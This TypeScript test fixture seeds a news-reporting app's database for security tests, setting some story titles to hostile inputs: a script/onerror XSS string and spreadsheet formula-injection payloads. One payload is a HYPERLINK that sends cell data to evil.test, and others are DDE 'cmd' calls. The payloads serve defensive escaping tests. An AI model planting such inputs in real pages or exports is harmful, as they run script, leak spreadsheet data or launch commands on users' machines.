/**
 * The data the security tests run on: the FY2564 record written by the project's own import
 * (74 stories, fast; no collector needed), a month whose story titles are hostile (HTML and
 * spreadsheet formulas) with its month-end report draft, a viewer, an editor and a read-only API
 * token known to the test.
 */
import { createHash, randomBytes } from 'node:crypto';
import {
  createModels,
  DEFAULT_PROJECT_ID,
  type ReachlineModels,
  reportObjectId,
} from '@reachline/shared/models';
import { importFy2564 } from '@reachline/shared/seed';
import { writeMonthDraft } from '@reachline/shared/store';
import bcrypt from 'bcryptjs';
import { Types } from 'mongoose';
import { ADMIN_PAGES } from '../helpers/dashboard';
import type { TestDatabase } from '../helpers/services';

/** A title that would run script if any page, export or report put it into HTML unescaped. */
export const SCRIPT_TITLE =
  '<script>window.__xss=1</script><img src=x onerror="window.__xss=2"> ข่าว';
/** Titles a spreadsheet would read as formulas if written as they are. */
export const FORMULA_TITLES = [
  '=HYPERLINK("http://evil.test/?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
];

export const VIEWER = { email: 'viewer@reachline.test', password: 'viewer password 123' };
export const EDITOR = { email: 'editor@reachline.test', password: 'editor password 123' };

export interface SecurityFixture {
  models: ReachlineModels;
  /** The month (YYYY-MM) of the hostile stories, and its report's id. */
  monthKey: string;
  reportId: string;
  /** The story titled SCRIPT_TITLE, and the ones titled FORMULA_TITLES. */
  scriptStoryId: string;
  formulaStoryIds: string[];
  /** A story outside the hostile month (for edits). */
  plainStoryId: string;
  apiToken: string;
  viewerId: string;
  editorId: string;
}

/** Every dashboard page, for the fixture's data (stories of FY2564, the hostile month's report). */
export function dashboardPages(fx: Pick<SecurityFixture, 'plainStoryId' | 'monthKey'>): string[] {
  return [
    '/',
    '/stories?fy=2564',
    `/stories/${fx.plainStoryId}`,
    `/reports?fy=2564&month=${fx.monthKey}`,
    ...ADMIN_PAGES,
  ];
}

export async function seedSecurityFixture(db: TestDatabase): Promise<SecurityFixture> {
  const models = createModels(db.connection);
  await importFy2564(models);
  // 74 stories: a small collection, read whole here to pick a month with five of them.
  const stories = await models.Story.find({}, { _id: 1, period: 1, postIds: 1 })
    .sort({ publishedAt: 1 })
    .lean();
  const byMonth = new Map<string, typeof stories>();
  for (const s of stories)
    byMonth.set(s.period.monthKey, [...(byMonth.get(s.period.monthKey) ?? []), s]);
  const [monthKey, month] = [...byMonth].find(([, list]) => list.length >= 5)!;
  const titles = [SCRIPT_TITLE, ...FORMULA_TITLES];
  for (const [i, title] of titles.entries()) {
    const story = month[i]!;
    await models.Story.updateOne({ _id: story._id }, { $set: { title } });
    for (const postId of story.postIds)
      await models.Post.updateOne({ _id: postId }, { $set: { title } });
  }
  await writeMonthDraft(models, DEFAULT_PROJECT_ID, monthKey, new Date());
  const report = await models.Report.findById(reportObjectId(DEFAULT_PROJECT_ID, monthKey), {
    _id: 1,
  }).lean();
  const plain = stories.find((s) => s.period.monthKey !== monthKey)!;

  const users: string[] = [];
  for (const [user, role] of [
    [VIEWER, 'viewer'],
    [EDITOR, 'editor'],
  ] as const) {
    const doc = await models.User.create({
      email: user.email,
      passwordHash: await bcrypt.hash(user.password, 10),
      role,
      displayName: role,
    });
    users.push(String(doc._id));
  }
  const apiToken = randomBytes(32).toString('base64url');
  await models.ApiToken.create({
    _id: createHash('sha256').update(apiToken).digest('hex'),
    name: 'security test',
    prefix: apiToken.slice(0, 8),
    createdBy: new Types.ObjectId(users[0]),
  });
  return {
    models,
    monthKey,
    reportId: String(report!._id),
    scriptStoryId: String(month[0]!._id),
    formulaStoryIds: month.slice(1, 5).map((s) => String(s._id)),
    plainStoryId: String(plain._id),
    apiToken,
    viewerId: users[0]!,
    editorId: users[1]!,
  };
}
